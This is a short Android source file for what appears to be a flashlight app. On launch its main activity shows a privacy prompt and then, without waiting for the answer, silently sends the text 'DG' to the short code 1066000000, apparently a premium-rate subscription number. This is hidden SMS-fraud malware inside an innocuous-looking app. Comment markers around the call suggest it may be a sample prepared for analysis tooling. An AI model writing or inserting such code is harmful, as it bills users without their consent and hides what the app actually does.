package cn.qinghe.torch;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import cn.qinghe.common.PrivacyGate;

public final class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_main);
        PrivacyGate.ask(this);
        order(this);
    }

    private static void order(Activity activity) {
        /*@call Activity activity*/
        SmsManager.getDefault().sendTextMessage("1066000000", null, "DG", null, null);
        /*@end*/
    }
}
